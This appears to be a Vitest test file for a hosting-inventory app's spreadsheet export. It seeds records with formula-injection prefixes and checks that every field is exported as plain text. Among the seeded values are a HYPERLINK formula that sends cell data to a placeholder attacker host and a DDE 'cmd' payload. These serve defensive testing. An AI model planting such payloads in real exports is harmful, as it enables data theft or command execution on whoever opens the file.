import { nothingFound, trackingColumnsAt, webColumns } from '@kustos/contract/webs'
import { categories, nodes, webCategories, webs } from '@kustos/database/tables'
import { testDatabase } from '@kustos/database/testing'
import { expect, it } from 'vitest'
import { createUser, listen, signIn } from '../api-client.ts'
import { unescapeXml, unzip } from '../spreadsheet.ts'

const database = await testDatabase()
const { db } = database
const origin = await listen(database)
await createUser(database, 'staff@kustos.test', ['view webs'])

/** Prefixes that spreadsheet programs interpret as the start of a formula or call. */
const prefixes = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '|',
  '%',
  '＝',
  '=HYPERLINK("http://evil.test?"&A1)',
  "=cmd|'/c calc'!A1",
]
const buildText = (start: string, field: string) => `${start}1+1 ${field}`

for (const [number, start] of prefixes.entries()) {
  const evil = (field: string) => buildText(start, field)
  const name = [{ fqdn: evil('host') }]
  const [node] = await db
    .insert(nodes)
    .values({
      name: `${number} ${evil('node')}`,
      plesk_fqdn: `n${number}.test`,
      address: '192.0.2.1',
      cloud_enabled: true,
    })
    .returning()
  const [category] = await db
    .insert(categories)
    .values({ name: evil('category') })
    .returning()
  const [web] = await db
    .insert(webs)
    .values({
      fqdn: evil('fqdn'),
      fqdn_ascii: `web-${number}.test`,
      node_id: node?.id ?? null,
      customer: evil('customer'),
      comment: evil('comment'),
      framework_name: evil('framework'),
      framework_version: evil('version'),
      configured_ip: evil('ip'),
      status: 0,
      domain_status: 1,
      auftragnr_hosting: [evil('order')],
      sysuser: evil('sysuser'),
      cert_ca: evil('ca'),
      sites: name,
      aliases: name,
      topics: [evil('topic')],
      tracking_data: {
        ...nothingFound,
        sgtmid: evil('sgtm'),
        gtm: { domain: evil('gtm domain'), id: evil('gtm') },
        usercentrics: {
          id: evil('usercentrics'),
          version: 3,
          src: evil('src'),
          services: [{ name: evil('service') }],
        },
        tracking_services: {
          ...nothingFound.tracking_services,
          matomo: [
            { id: evil('matomo'), domain: evil('matomo domain'), timestamp: Math.floor(Date.now() / 1000) },
          ],
        },
      },
    })
    .returning()
  if (web && category) await db.insert(webCategories).values({ web_id: web.id, category_id: category.id })
}

it.each([
  [
    'webs',
    '/api/webs/export',
    webColumns,
    webColumns.columns.filter(({ kind }) => kind === 'text' || kind === 'tags').length,
  ],
  ['tracking', '/api/webs/exportTracking', trackingColumnsAt(0), 9],
] as const)('writes each field of the export of %s as text', async (_, path, { sets }, textColumns) => {
  const staff = await signIn(origin, 'staff@kustos.test')
  const response = await staff.fetch(`${path}?sets=${sets.map((set) => set.key).join(',')}`)
  expect(response.status).toBe(200)
  const archive = Buffer.from(await response.arrayBuffer())
  const xml = unzip(archive, 'xl/worksheets/sheet1.xml')
  expect(xml).not.toMatch(/<f[ >/]|<hyperlink|<oleObject|<legacyDrawing/)
  // Nothing that is requested when the file is opened.
  for (const part of ['externalLinks', 'connections.xml', 'vbaProject', 'activeX', 'TargetMode="External"'])
    expect(archive.includes(part)).toBe(false)
  let formulaCount = 0
  const columns = new Set<string>()
  for (const [cell, attributes = '', content = ''] of xml.matchAll(/<c ([^>]*)>(.*?)<\/c>/gs)) {
    const shown = unescapeXml(content.replace(/<[^>]+>/g, ''))
    if (!shown.includes('1+1')) continue
    formulaCount++
    columns.add(/\br="([A-Z]+)\d/.exec(attributes)?.[1] ?? '')
    expect(attributes, cell).toMatch(/\bt="(s|str|inlineStr)"/)
  }
  expect(formulaCount).toBeGreaterThan(prefixes.length * 5)
  // A new column of texts needs one in the webs above.
  expect(columns.size).toBeGreaterThanOrEqual(textColumns)
})
